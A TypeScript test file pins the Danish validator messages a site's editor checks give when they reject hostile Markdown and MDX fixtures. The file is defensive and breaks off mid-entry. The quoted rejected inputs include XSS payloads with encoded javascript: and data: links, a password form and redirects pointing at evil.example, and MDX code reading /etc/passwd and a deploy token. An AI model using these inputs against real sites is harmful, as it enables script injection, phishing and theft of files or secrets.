/**
 * The expected editor messages for the safety corpus (test/fixtures/safety/), pinned word for word:
 * every hostile or broken fixture is refused with these, or – where listed as [] – neutralised by
 * the rendering pipeline (safety-pipeline.test.ts) and published as harmless text.
 */
export const LINKS = `en adresse, der begynder med https://, http://, mailto: eller tel:, eller en adresse på sitet som /breve/…`;
export const IMAGES = `et billede på sitet med en adresse, der begynder med /, fx /bilag/kort.png (filen lægges i public/bilag/)`;
export const MDX_PLAIN = `tekst, Markdown og komponenterne <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> og <AreaCard area="beskaeftigelse" /> (uden import)`;
export const BRACES = `almindelig tekst; skriv \\{ og \\} for at vise krøllede parenteser`;
export const CSV_UTF8 = `åbn filen i Excel, vælg Filer → Gem som og filtypen »CSV UTF-8 (kommasepareret) (*.csv)«`;
export const MD_UTF8 = `gem filen igen med tegnsættet UTF-8 (Notesblok: Gem som → Kodning: UTF-8; VS Code: Gem med kodning → UTF-8)`;
export const NO_FORMULA = `tekst, der ikke begynder med =, +, -, @ eller tabulator: begynd fx med et ord, eller skriv tankestreg (–) i stedet for bindestreg`;
export const ONE_FILE = `én fil pr. adresse: omdøb eller slet den ene`;
export const FILE_NAME = `filnavnet må kun have små bogstaver a–z, tal og bindestreger og skal ende på .md eller .mdx`;
export const CONTENT_FOLDERS = `en af mapperne content/letters/, content/conferences/, content/areas/, content/pages/`;
export const S = 'test/fixtures/safety';

export const LETTERS: Record<string, string[]> = {
  'attachment-file-and-href.md': [
    `${S}/letters/attachment-file-and-href.md:8:5: feltet "attachments[1].href": et bilag har enten file (en fil i brevets mappe) eller href (en adresse), ikke begge (fik "https://www.kk.dk/opsamling.pdf")`,
  ],
  'attachment-original-name.md': [
    `${S}/letters/attachment-original-name.md:5:1: feltet "original": skriv filnavnet på en fil i brevets mappe: små bogstaver a–z, tal og bindestreger, og .pdf, .docx, .xlsx eller .csv til sidst (fx bilag-1.pdf) (fik "Brev fra forvaltningen.PDF")`,
  ],
  'attachment-path-escape.md': [
    `${S}/letters/attachment-path-escape.md:7:5: feltet "attachments[1].file": skriv filnavnet på en fil i brevets mappe: små bogstaver a–z, tal og bindestreger, og .pdf, .docx, .xlsx eller .csv til sidst (fx bilag-1.pdf) (fik "../../../.env.pdf")`,
  ],
  'attachment-same-name.md': [
    `${S}/letters/attachment-same-name.md:8:5: feltet "attachments[1].file": navnet før endelsen er det samme som bilag-1.docx (fik "bilag-1.pdf")`,
    `${S}/letters/attachment-same-name.md:10:5: feltet "attachments[2].file": filen er allerede nævnt i brevets front matter (fik "bilag-1.pdf")`,
  ],
  'attachment-unknown-key.md': [
    `${S}/letters/attachment-unknown-key.md:7:5: ukendt felt i "attachments[1]" – mente du "file"? (fik "fil", forventede et af felterne label, title, file, href, note)`,
  ],
  'base-tag.md': [
    `${S}/letters/base-tag.md:7:1: rå <base> er ikke tilladt i teksten (fik "<base href="https://evil.example/">", forventede almindelig Markdown; <base> fjernes)`,
  ],
  'class-hijack.md': [
    `${S}/letters/class-hijack.md:7:10: attributten class= er ikke tilladt på <span>: klasser er sitets egne (fx sr-only, der skjuler tekst) (fik "class="ib-visually-hidden"", forventede <span> uden class=, eller almindelig Markdown; sitet bestemmer selv udseendet)`,
  ],
  'conditional-comment.md': [
    `${S}/letters/conditional-comment.md:9:1: en HTML-kommentar (<!-- … -->) er ikke tilladt i teksten: den vises ikke på siden (fik "<!--[if IE]><script>alert(1)</script><![endif]-->", forventede teksten uden kommentaren; en note til en kollega hører til i pull requesten)`,
  ],
  'data-url-image.md': [
    `${S}/letters/data-url-image.md:7:1: data:-billeder er ikke tilladt i teksten (fik "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+", forventede ${IMAGES})`,
  ],
  'data-url-link.md': [
    `${S}/letters/data-url-link.md:7:1: data:-links er ikke tilladt i teksten (fik "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", forventede ${LINKS})`,
  ],
  'doknr-decimal.md': [
    `${S}/letters/doknr-decimal.md:5:1: doknr skal stå i anførselstegn: YAML læser 2009.194106 som tallet 2009.194106 (fik "2009.194106", forventede doknr: "2009.194106")`,
  ],
  'empty-file.md': [
    `${S}/letters/empty-file.md:1:1: filen er tom (forventede front matter mellem to linjer med --- og derefter teksten (se Redaktørvejledningen))`,
  ],
  'event-handler-inline.md': [
    `${S}/letters/event-handler-inline.md:7:14: inline hændelseskode (onmouseover=) er ikke tilladt i teksten (fik "onmouseover="alert(1)"", forventede almindelig Markdown uden on…=)`,
  ],
  'external-image.md': [
    `${S}/letters/external-image.md:7:9: billedet ligger ikke på sitet (fik "https://tracker.example/pixel.gif", forventede ${IMAGES})`,
  ],
  'font-center.md': [
    `${S}/letters/font-center.md:7:1: rå <center> er ikke tilladt i teksten (fik "<center>", forventede almindelig Markdown; <center> fjernes, teksten i det bliver stående)`,
    `${S}/letters/font-center.md:7:9: rå <font> er ikke tilladt i teksten (fik "<font color="red">", forventede almindelig Markdown; <font> fjernes, teksten i det bliver stående)`,
  ],
  'form-password.md': [
    `${S}/letters/form-password.md:7:1: rå <form> er ikke tilladt i teksten (fik "<form action="https://evil.example/login">", forventede almindelig Markdown; <form> fjernes, teksten i det bliver stående)`,
    `${S}/letters/form-password.md:8:1: rå <input> er ikke tilladt i teksten (fik "<input type="password" name="kode">", forventede almindelig Markdown; <input> fjernes)`,
    `${S}/letters/form-password.md:9:1: rå <button> er ikke tilladt i teksten (fik "<button>", forventede almindelig Markdown; <button> fjernes, teksten i det bliver stående)`,
  ],
  'front-matter-close-line.md': [
    `${S}/letters/front-matter-close-line.md:4:1: front matter slutter her, men linjen har mere end --- (fik "---skjult", forventede en linje med kun ---)`,
  ],
  'future-letter.md': [
    `${S}/letters/future-letter.md:3:1: datoen i "date" ligger efter i dag (fik "2099-01-01", forventede en dato til og med 2026-12-01)`,
  ],
  'html-in-title.md': [],
  'id-clobber.md': [
    `${S}/letters/id-clobber.md:7:7: attributten id= er ikke tilladt på <a>: id'er er sitets egne (overskrifter, afsnit, fodnoter), og et id i teksten kan tage et af dem (fik "id="afsnit-2"", forventede <a> uden id=; sitet giver hver overskrift og hvert afsnit et link)`,
    `${S}/letters/id-clobber.md:7:21: attributten name= er ikke tilladt på <a> (fik "name="search"", forventede <a> uden name=, eller almindelig Markdown)`,
  ],
  'iframe-srcdoc.md': [
    `${S}/letters/iframe-srcdoc.md:7:1: rå <iframe> er ikke tilladt i teksten (fik "<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">", forventede almindelig Markdown; <iframe> fjernes med sit indhold)`,
  ],
  'iframe.md': [
    `${S}/letters/iframe.md:7:1: rå <iframe> er ikke tilladt i teksten (fik "<iframe src="https://evil.example/">", forventede almindelig Markdown; <iframe> fjernes med sit indhold)`,
  ],
  'jnr-in-stamp.md': [
    `${S}/letters/jnr-in-stamp.md:8:3: jnr skal stå i anførselstegn: YAML læser 45212 som tallet 45212 (fik "45212", forventede jnr: "45212")`,
  ],
  'js-attachment.md': [
    `${S}/letters/js-attachment.md:7:5: feltet "attachments[1].href": adressen skal begynde med https://, http:// eller / (en fil på sitet) (fik "javascript:alert(1)")`,
  ],
  'js-autolink.md': [
    `${S}/letters/js-autolink.md:7:11: javascript:-links er ikke tilladt i teksten (fik "javascript:alert(1)", forventede ${LINKS})`,
  ],
  'js-entity-colon.md': [
    `${S}/letters/js-entity-colon.md:7:1: javascript:-links er ikke tilladt i teksten (fik "javascript:alert(1)", forventede ${LINKS})`,
  ],
  'js-entity-hex.md': [
    `${S}/letters/js-entity-hex.md:7:7: javascript:-links er ikke tilladt i teksten (fik "href="javascript:alert(1)"", forventede ${LINKS})`,
  ],
  'js-entity-tab.md': [
    `${S}/letters/js-entity-tab.md:7:7: javascript:-links er ikke tilladt i teksten (fik "href="java\\tscript:alert(1)"", forventede ${LINKS})`,
  ],
  'js-inline-link.md': [
    `${S}/letters/js-inline-link.md:7:1: javascript:-links er ikke tilladt i teksten (fik "javascript:alert(document.cookie)", forventede ${LINKS})`,
  ],
  'js-mixed-case-space.md': [
    `${S}/letters/js-mixed-case-space.md:7:7: javascript:-links er ikke tilladt i teksten (fik "href=" JaVaScRiPt:alert(1)"", forventede ${LINKS})`,
  ],
  'js-newline-entity.md': [
    `${S}/letters/js-newline-entity.md:7:7: javascript:-links er ikke tilladt i teksten (fik "href="java\\nscript:alert(1)"", forventede ${LINKS})`,
  ],
  'js-reference-link.md': [
    `${S}/letters/js-reference-link.md:9:1: javascript:-links er ikke tilladt i teksten (fik "javascript:alert(document.domain)", forventede ${LINKS})`,
  ],
  'link-stylesheet.md': [
    `${S}/letters/link-stylesheet.md:7:1: rå <link> er ikke tilladt i teksten (fik "<link rel="stylesheet" href="https://evil.example/x.css">", forventede almindelig Markdown; <link> fjernes)`,
  ],
  'link-to-missing-letter.md': [
    `${S}/letters/link-to-missing-letter.md:7:4: ukendt brev i linket (fik "/breve/2009-04-02-findes-ikke/", forventede navnet på en fil i content/letters uden .md, fx /breve/2009-04-02-opsamling-integrationskonference-2009/)`,
    `${S}/letters/link-to-missing-letter.md:7:48: ukendt indikator i linket (fik "/indikatorer/findes-ikke/", forventede et id fra data/indicators.csv, fx /indikatorer/<id>/)`,
  ],
  'meta-refresh.md': [
    `${S}/letters/meta-refresh.md:7:1: rå <meta> er ikke tilladt i teksten (fik "<meta http-equiv="refresh" content="0;url=https://evil.example/">", forventede almindelig Markdown; <meta> fjernes)`,
  ],
  'missing-public-file.md': [
    `${S}/letters/missing-public-file.md:7:12: billedet findes ikke i public/ (fik "/bilag/kort-over-bydelene.png", forventede en fil public/bilag/kort-over-bydelene.png, eller en rettet adresse)`,
    `${S}/letters/missing-public-file.md:9:15: filen findes ikke i public/ (fik "/bilag/notat.pdf", forventede en fil public/bilag/notat.pdf, eller en rettet adresse)`,
  ],
  'noscript-mxss.md': [
    `${S}/letters/noscript-mxss.md:7:1: rå <noscript> er ikke tilladt i teksten (fik "<noscript>", forventede almindelig Markdown; <noscript> fjernes med sit indhold)`,
  ],
  'object-embed.md': [
    `${S}/letters/object-embed.md:7:1: rå <object> er ikke tilladt i teksten (fik "<object data="/bilag/film.swf">", forventede almindelig Markdown; <object> fjernes med sit indhold)`,
    `${S}/letters/object-embed.md:9:1: rå <embed> er ikke tilladt i teksten (fik "<embed src="/bilag/film.swf">", forventede almindelig Markdown; <embed> fjernes med sit indhold)`,
  ],
  'pagefind-attribute.md': [
    `${S}/letters/pagefind-attribute.md:7:4: attributten data-pagefind-meta= er ikke tilladt på <p> (fik "data-pagefind-meta="sagsnr:2099-1"", forventede <p> uden data-pagefind-meta=, eller almindelig Markdown)`,
  ],
  'protocol-relative-link.md': [
    `${S}/letters/protocol-relative-link.md:7:1: et link, der begynder med //, er ikke tilladt i teksten (fik "//evil.example/login", forventede en fuld adresse med https:// foran)`,
  ],
  'reference-image.md': [
    `${S}/letters/reference-image.md:9:1: billedet ligger ikke på sitet (fik "https://tracker.example/kort.png", forventede ${IMAGES})`,
  ],
  'relative-image.md': [`${S}/letters/relative-image.md:7:1: billedet ligger ikke på sitet (fik "kort.png", forventede ${IMAGES})`],
  'sagsnr-as-date.md': [
    `${S}/letters/sagsnr-as-date.md:4:1: sagsnr skal stå i anførselstegn: YAML læser 2009-04-02 som en dato (fik "2009-04-02", forventede sagsnr: "2009-04-02")`,
  ],
  'sagsnr-leading-zeros.md': [
    `${S}/letters/sagsnr-leading-zeros.md:4:1: sagsnr skal stå i anførselstegn: YAML læser 0012345 som tallet 12345 (fik "0012345", forventede sagsnr: "0012345")`,
  ],
  'script-block.md': [
    `${S}/letters/script-block.md:9:1: rå <script> er ikke tilladt i teksten (fik "<script>", forventede almindelig Markdown; <script> fjernes med sit indhold)`,
  ],
  'script-in-fenced-html.md': [
    `${S}/letters/script-in-fenced-html.md:11:1: rå <script> er ikke tilladt i teksten (fik "<script>", forventede almindelig Markdown; <script> fjernes med sit indhold)`,
  ],
  'script-in-list.md': [
    `${S}/letters/script-in-list.md:8:3: rå <script> er ikke tilladt i teksten (fik "<script>", forventede almindelig Markdown; <script> fjernes med sit indhold)`,
  ],
  'script-in-quote.md': [
    `${S}/letters/script-in-quote.md:8:3: rå <script> er ikke tilladt i teksten (fik "<script>", forventede almindelig Markdown; <script> fjernes med sit indhold)`,
  ],
  'script-uppercase.md': [
    `${S}/letters/script-uppercase.md:7:1: rå <script> er ikke tilladt i teksten (fik "<SCRIPT SRC=//evil.example/x.js>", forventede almindelig Markdown; <script> fjernes med sit indhold)`,
  ],
  'slug-hijack.md': [
    `${S}/letters/slug-hijack.md:5:1: ukendt felt (fik "slug", forventede et af felterne title, editorialTitle, label, date, sagsnr, doknr, jnr, sender, recipients, recipientsNote, areas, indicators, attachments, original, receivedStamp, summary, provenance, sourceFile, notes, illustrative)`,
  ],
  'split-attribute.md': [
    `${S}/letters/split-attribute.md:10:6: inline hændelseskode (onerror=) er ikke tilladt i teksten (fik "onerror="alert(1)"", forventede almindelig Markdown uden on…=)`,
  ],
  'style-element.md': [
    `${S}/letters/style-element.md:7:1: rå <style> er ikke tilladt i teksten (fik "<style>", forventede almindelig Markdown; <style> fjernes med sit indhold)`,
  ],
  'style-overlay.md': [
    `${S}/letters/style-overlay.md:7:6: style= er ikke tilladt i teksten (på <div>) (fik "style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff"", forventede almindelig Markdown; sitet bestemmer selv udseendet)`,
  ],
  'svg-onload.md': [
    `${S}/letters/svg-onload.md:7:1: rå <svg> er ikke tilladt i teksten (fik "<svg onload="alert(1)">", forventede almindelig Markdown; <svg> fjernes med sit indhold)`,
  ],
  'table-style.md': [
    `${S}/letters/table-style.md:7:16: style= er ikke tilladt i teksten (på <td>) (fik "style="background:url(https://evil.example/x.png)"", forventede almindelig Markdown; sitet bestemmer selv udseendet)`,
  ],
  'template-element.md': [
    `${S}/letters/template-element.md:7:1: rå <template> er ikke tilladt i teksten (fik "<template>", forventede almindelig Markdown; <template> fjernes med sit indhold)`,
  ],
  'textarea-escape.md': [
    `${S}/letters/textarea-escape.md:7:1: rå <textarea> er ikke tilladt i teksten (fik "<textarea>", forventede almindelig Markdown; <textarea> fjernes med sit indhold)`,
  ],
  'vbscript-link.md': [
    `${S}/letters/vbscript-link.md:7:1: vbscript:-links er ikke tilladt i teksten (fik "vbscript:msgbox("hej")", forventede ${LINKS})`,
  ],
  'dir-rtl.md': [
    `${S}/letters/dir-rtl.md:7:4: dir="rtl" er ikke tilladt på <p>: det kan vende rækkefølgen af tal og ord på skærmen (2008 - 1234 vises som 1234 - 2008) (fik "dir="rtl"", forventede <p> uden dir=, eller dir="ltr" eller dir="auto")`,
    `${S}/letters/dir-rtl.md:9:10: dir="RTL" er ikke tilladt på <span>: det kan vende rækkefølgen af tal og ord på skærmen (2008 - 1234 vises som 1234 - 2008) (fik "dir="RTL"", forventede <span> uden dir=, eller dir="ltr" eller dir="auto")`,
  ],
  'entity-hidden-chars.md': [
    `${S}/letters/entity-hidden-chars.md:7:23: teksten indeholder U+202E (skrevet som tegnkoden &#x202E;), et usynligt retningstegn, der kan vende rækkefølgen af tegnene på skærmen, så teksten ser anderledes ud, end den er (fik "Sagen har sagsnr 2008-&#x202E;4321 og dok.nr. 2008-&#…", forventede tekst uden usynlige tegn – slet tegnkoden &#x202E;)`,
    `${S}/letters/entity-hidden-chars.md:7:52: teksten indeholder U+202E (skrevet som tegnkoden &#8238;), et usynligt retningstegn, der kan vende rækkefølgen af tegnene på skærmen, så teksten ser anderledes ud, end den er (fik "…-&#x202E;4321 og dok.nr. 2008-&#8238;1234.", forventede tekst uden usynlige tegn – slet tegnkoden &#8238;)`,
    `${S}/letters/entity-hidden-chars.md:9:18: teksten indeholder U+200B (skrevet som tegnkoden &#x200B;), et usynligt tegn uden bredde, så teksten ser anderledes ud, end den er (fik "Se <span title="a&#x200B;b">teksten</span> og <a…", forventede tekst uden usynlige tegn – slet tegnkoden &#x200B;)`,
    `${S}/letters/entity-hidden-chars.md:9:60: teksten indeholder U+202E (skrevet som tegnkoden &#x202E;), et usynligt retningstegn, der kan vende rækkefølgen af tegnene på skærmen, så teksten ser anderledes ud, end den er (fik "…eksten</span> og <abbr title="&#x202E;evil">EU</abbr>.", forventede tekst uden usynlige tegn – slet tegnkoden &#x202E;)`,
    `${S}/letters/entity-hidden-chars.md:11:1: teksten indeholder U+FEFF (skrevet som tegnkoden &#xFEFF;), et usynligt tegn uden bredde, så teksten ser anderledes ud, end den er (fik "&#xFEFF;Første ord og &#x2028;l…", forventede tekst uden usynlige tegn – slet tegnkoden &#xFEFF;)`,
    `${S}/letters/entity-hidden-chars.md:11:23: teksten indeholder U+2028 (skrevet som tegnkoden &#x2028;), et usynligt linje- eller afsnitsskift, så teksten ser anderledes ud, end den er (fik "&#xFEFF;Første ord og &#x2028;linjeskift, &zwj;, &zwn…", forventede tekst uden usynlige tegn – slet tegnkoden &#x2028;)`,
    `${S}/letters/entity-hidden-chars.md:11:43: teksten indeholder U+200D (skrevet som tegnkoden &zwj;), et usynligt tegn uden bredde, så teksten ser anderledes ud, end den er (fik "…te ord og &#x2028;linjeskift, &zwj;, &zwnj;, &lrm; og &rlm;.", forventede tekst uden usynlige tegn – slet tegnkoden &zwj;)`,
    `${S}/letters/entity-hidden-chars.md:11:50: teksten indeholder U+200C (skrevet som tegnkoden &zwnj;), et usynligt tegn uden bredde, så teksten ser anderledes ud, end den er (fik "…og &#x2028;linjeskift, &zwj;, &zwnj;, &lrm; og &rlm;.", forventede tekst uden usynlige tegn – slet tegnkoden &zwnj;)`,
    `${S}/letters/entity-hidden-chars.md:11:58: teksten indeholder U+200E (skrevet som tegnkoden &lrm;), et usynligt retningstegn, der kan vende rækkefølgen af tegnene på skærmen, så teksten ser anderledes ud, end den er (fik "…28;linjeskift, &zwj;, &zwnj;, &lrm; og &rlm;.", forventede tekst uden usynlige tegn – slet tegnkoden &lrm;)`,
    `${S}/letters/entity-hidden-chars.md:11:67: teksten indeholder U+200F (skrevet som tegnkoden &rlm;), et usynligt retningstegn, der kan vende rækkefølgen af tegnene på skærmen, så teksten ser anderledes ud, end den er (fik "…kift, &zwj;, &zwnj;, &lrm; og &rlm;.", forventede tekst uden usynlige tegn – slet tegnkoden &rlm;)`,
    `${S}/letters/entity-hidden-chars.md:13:19: teksten indeholder U+200F (skrevet som tegnkoden &rlm;), et usynligt retningstegn, der kan vende rækkefølgen af tegnene på skærmen, så teksten ser anderledes ud, end den er (fik "[Brevet](/breve/ "&rlm;titel")", forventede tekst uden usynlige tegn – slet tegnkoden &rlm;)`,
  ],
  'fake-footnote.md': [
    `${S}/letters/fake-footnote.md:9:9: attributten id= er ikke tilladt på <li>: id'er er sitets egne (overskrifter, afsnit, fodnoter), og et id i teksten kan tage et af dem (fik "id="user-content-fn-1"", forventede <li> uden id=; sitet giver hver overskrift og hvert afsnit et link)`,
    `${S}/letters/fake-footnote.md:9:52: attributten data-footnote-backref= er ikke tilladt på <a>: fodnoter laver sitet selv (fik "data-footnote-backref=""", forventede <a> uden data-footnote-backref=; skriv en fodnote som [^1] i teksten og [^1]: … på en linje for sig)`,
    `${S}/letters/fake-footnote.md:9:74: attributten class= er ikke tilladt på <a>: klasser er sitets egne (fx sr-only, der skjuler tekst) (fik "class="data-footnote-backref"", forventede <a> uden class=, eller almindelig Markdown; sitet bestemmer selv udseendet)`,
    `${S}/letters/fake-footnote.md:11:5: attributten id= er ikke tilladt på <h2>: id'er er sitets egne (overskrifter, afsnit, fodnoter), og et id i teksten kan tage et af dem (fik "id="footnote-label"", forventede <h2> uden id=; sitet giver hver overskrift og hvert afsnit et link)`,
    `${S}/letters/fake-footnote.md:11:25: attributten class= er ikke tilladt på <h2>: klasser er sitets egne (fx sr-only, der skjuler tekst) (fik "class="sr-only"", forventede <h2> uden class=, eller almindelig Markdown; sitet bestemmer selv udseendet)`,
  ],
  'heading-id-hijack.md': [],
  'unclosed-comment.md': [
    `${S}/letters/unclosed-comment.md:9:1: en HTML-kommentar (<!-- … -->) uden afslutning (-->) er ikke tilladt: den skjuler resten af teksten på siden (fik "<!-- note: husk at tjekke tallene", forventede teksten uden kommentaren; en note til en kollega hører til i pull requesten)`,
  ],
  'unclosed-details.md': [
    `${S}/letters/unclosed-details.md:9:1: <details> lukkes aldrig, så resten af teksten kommer til at ligge i den og skjules i en lukket boks (fik "<details>", forventede </details> efter det, der skal stå i <details>)`,
  ],
};

export const CONFERENCES: Record<string, string[]> = {
  'duplicate-idea-ids': [
    `${S}/conferences/duplicate-idea-ids/2009.mdx:15:5: feltet "ideas[2].id": idéen har samme id som idé nr. 1 (fik "lektiecafe")`,
  ],
  'mdx-comment-expression': [
    `${S}/conferences/mdx-comment-expression/2009.mdx:10:8: {…} er kode i MDX og er ikke tilladt (fik "{/* skjult note */}", forventede ${BRACES})`,
  ],
  'mdx-component-children': [
    `${S}/conferences/mdx-component-children/2009.mdx:10:1: <AreaCard> kan ikke have indhold (fik "<AreaCard>…</AreaCard>", forventede <AreaCard … />)`,
  ],
  'mdx-env': [
    `${S}/conferences/mdx-env/2009.mdx:10:11: {…} er kode i MDX og er ikke tilladt (fik "{process.env.HOME}", forventede ${BRACES})`,
  ],
  'mdx-export': [
    `${S}/conferences/mdx-export/2009.mdx:10:1: export er ikke tilladt i MDX: kode i dokumentet ville køre, når sitet bygges (fik "export const n = 250 * 2", forventede ${MDX_PLAIN})`,
    `${S}/conferences/mdx-export/2009.mdx:12:9: {…} er kode i MDX og er ikke tilladt (fik "{n}", forventede ${BRACES})`,
  ],
  'mdx-expression-prop': [
    `${S}/conferences/mdx-expression-prop/2009.mdx:10:1: egenskaben "id" skal være en tekst i anførselstegn (fik "id={process.env.DEPLOY_TOKEN}", forventede id="beskaeftigelse-ikke-vestlige-ratio")`,
  ],
  'mdx-html-comment': [
    `${S}/conferences/mdx-html-comment/2009.mdx:12:1: en HTML-kommentar (<!-- … -->) kan ikke bruges i MDX (fik "<!-- note til redaktøren -->", forventede teksten uden kommentaren)`,
  ],
  'mdx-html-script': [
    `${S}/conferences/mdx-html-script/2009.mdx:10:1: HTML-elementet <script> er ikke tilladt i MDX (fik "<script>", forventede Markdown i stedet for HTML, og kun komponenterne <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> og <AreaCard area="beskaeftigelse" />)`,
  ],
  'mdx-import-missing': [
    `${S}/conferences/mdx-import-missing/2009.mdx:10:1: import er ikke tilladt i MDX: kode i dokumentet ville køre, når sitet bygges (fik "import Figur from "./findes-ikke.mdx"", forventede ${MDX_PLAIN})`,
    `${S}/conferences/mdx-import-missing/2009.mdx:12:1: ukendt komponent (fik "<Figur>", forventede <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> eller <AreaCard area="beskaeftigelse" />)`,
  ],
  'mdx-import-node': [
    `${S}/conferences/mdx-import-node/2009.mdx:10:1: import er ikke tilladt i MDX: kode i dokumentet ville køre, når sitet bygges (fik "import fs from "node:fs"", forventede ${MDX_PLAIN})`,
    `${S}/conferences/mdx-import-node/2009.mdx:12:1: {…} er kode i MDX og er ikke tilladt (fik "{fs.readFileSync("/etc/passwd", "utf8")}", forventede ${BRACES})`,
  ],
  'mdx-inline-component': [
    `${S}/conferences/mdx-inline-component/2009.mdx:10:9: <AreaCard> skal stå på sin egen linje (fik "<AreaCard>", forventede <AreaCard … /> alene på en linje, med en tom linje før og efter)`,
  ],
  'mdx-js-link': [
    `${S}/conferences/mdx-js-link/2009.mdx:10:1: javascript:-links er ikke tilladt i teksten (fik "javascript:alert(1)", forventede ${LINKS})`,
    `${S}/conferences/mdx-js-link/2009.mdx:10:32: ukendt brev i linket (fik "/breve/findes-ikke/", forventede navnet på en fil i content/letters uden .md, fx /breve/2009-04-02-opsamling-integrationskonference-2009/)`,
  ],
  'mdx-layout': [
    `${S}/conferences/mdx-layout/2009.mdx:8:1: ukendt felt (fik "layout", forventede et af felterne title, year, status, date, when, place, participants, theme, themeProposals, budget, organiser, summary, letters, ideas, illustrative, illustrativeNote)`,
  ],
  'mdx-missing-prop': [
    `${S}/conferences/mdx-missing-prop/2009.mdx:10:1: <AreaCard> mangler egenskaben "area" (forventede area="beskaeftigelse")`,
  ],
  'mdx-spread-prop': [
    `${S}/conferences/mdx-spread-prop/2009.mdx:10:1: {…} er ikke tilladt i <AreaCard> (fik "{...props}", forventede area="beskaeftigelse")`,
  ],
  'mdx-syntax-brace': [
    `${S}/conferences/mdx-syntax-brace/2009.mdx:10:11: tegnet { begynder kode i MDX, som ikke er tilladt (fik "Budgettet { 2009 var stort.", forventede ${BRACES})`,
  ],
  'mdx-syntax-html-element': [
    `${S}/conferences/mdx-syntax-html-element/2009.mdx:10:23: HTML-elementet <form> er ikke tilladt i teksten, og MDX kan ikke læse linjen (fik "<form><input name="x"></form>", forventede almindelig tekst og Markdown uden <form>, eller en komponent som <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> eller <AreaCard area="beskaeftigelse" />)`,
  ],
  'mdx-syntax-void-element': [
    `${S}/conferences/mdx-syntax-void-element/2009.mdx:10:13: <br> skal lukkes i MDX (fik "Første linje<br>anden linje", forventede <br />)`,
  ],
  // The parser stops at its first error; the check reads on past each, so all five come in one run.
  'mdx-syntax-several': [
    `${S}/conferences/mdx-syntax-several/2009.mdx:10:23: HTML-elementet <form> er ikke tilladt i teksten, og MDX kan ikke læse linjen (fik "<form><input name="x"></form>", forventede almindelig tekst og Markdown uden <form>, eller en komponent som <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> eller <AreaCard area="beskaeftigelse" />)`,
    `${S}/conferences/mdx-syntax-several/2009.mdx:12:13: <br> skal lukkes i MDX (fik "Første linje<br>anden linje", forventede <br />)`,
    `${S}/conferences/mdx-syntax-several/2009.mdx:14:4: javascript:-links er ikke tilladt i teksten (fik "javascript:alert(1)", forventede ${LINKS})`,
    `${S}/conferences/mdx-syntax-several/2009.mdx:14:36: HTML-elementet <script> er ikke tilladt i MDX (fik "<script>", forventede Markdown i stedet for HTML, og kun komponenterne <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> og <AreaCard area="beskaeftigelse" />)`,
    `${S}/conferences/mdx-syntax-several/2009.mdx:16:11: {…} er kode i MDX og er ikke tilladt (fik "{alert(1)}", forventede ${BRACES})`,
  ],
  'mdx-syntax-less-than': [
    `${S}/conferences/mdx-syntax-less-than/2009.mdx:10:13: tegnet < begynder en komponent i MDX, men her følger ingen gyldig komponent (fik "Andelen var <5 pct.", forventede en komponent som <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> eller <AreaCard area="beskaeftigelse" />, eller \\< for at vise tegnet <)`,
  ],
  'mdx-syntax-unclosed-tag': [
    `${S}/conferences/mdx-syntax-unclosed-tag/2009.mdx:10:7: tegnet < begynder en komponent i MDX, men her følger ingen gyldig komponent (fik "Tekst <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio"", forventede en komponent som <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> eller <AreaCard area="beskaeftigelse" />, eller \\< for at vise tegnet <)`,
  ],
  'mdx-unknown-area': [
    `${S}/conferences/mdx-unknown-area/2009.mdx:10:1: ugyldig værdi for "area" i <AreaCard> (fik "arbejde", forventede "beskaeftigelse", "bolig", "tryghed", "uddannelse", "sundhed-og-omsorg" eller "kultur-og-fritid")`,
  ],
  'mdx-unknown-component': [
    `${S}/conferences/mdx-unknown-component/2009.mdx:10:1: ukendt komponent – mente du "IndicatorFigure"? (fik "<Indicatorfigure>", forventede <IndicatorFigure id="beskaeftigelse-ikke-vestlige-ratio" /> eller <AreaCard area="beskaeftigelse" />)`,
  ],
  'mdx-unknown-indicator': [
    `${S}/conferences/mdx-unknown-indicator/2009.mdx:10:1: ukendt indikator i <IndicatorFigure> (fik "findes-ikke", forventede et id fra data/indicators.csv)`,
  ],
  'mdx-unknown-prop': [
    `${S}/conferences/mdx-unknown-prop/2009.mdx:10:1: ukendt egenskab på <IndicatorFigure> (fik "onClick", forventede id="beskaeftigelse-ikke-vestlige-ratio")`,
  ],
  'mdx-entity-hidden-chars': [
    `${S}/conferences/mdx-entity-hidden-chars/2009.mdx:10:14: teksten indeholder U+202E (skrevet som tegnkoden &#x202E;), et usynligt retningstegn, der kan vende rækkefølgen af tegnene på skærmen, så teksten ser anderledes ud, end den er (fik "Sagsnr. 2008-&#x202E;4321 og &zwj;ord.", forventede tekst uden usynlige tegn – slet tegnkoden &#x202E;)`,
    `${S}/conferences/mdx-entity-hidden-chars/2009.mdx:10:30: teksten indeholder U+200D (skrevet som tegnkoden &zwj;), et usynligt tegn uden bredde, så teksten ser anderledes ud, end den er (fik "Sagsnr. 2008-&#x202E;4321 og &zwj;ord.", forventede tekst uden usynlige tegn – slet tegnkoden &zwj;)`,
  ],
};

export const ENCODING: Record<string, string[]> = {
  'double-encoded.md': [
    `${S}/encoding/double-encoded.md:7:5: teksten er konverteret forkert to gange: »Ã¦« står for et bogstav som æ, ø eller å (fik "BeskÃ¦ftigelses- og Integrationsforvaltningen fremsender hermed en opgÃ¸relse f…", forventede de rigtige bogstaver: ret dem i filen, eller start fra den oprindelige fil og ${MD_UTF8})`,
  ],
  'latin1-one-line.md': [
    `${S}/encoding/latin1-one-line.md:9:5: linje 9 er gemt som Windows-1252/Latin-1, mens resten af filen er UTF-8 (fik "Beskæftigelses- og Integrationsforvaltningen fremsender hermed en opgørelse for…", forventede UTF-8: ${MD_UTF8})`,
  ],
  'replacement-char.md': [
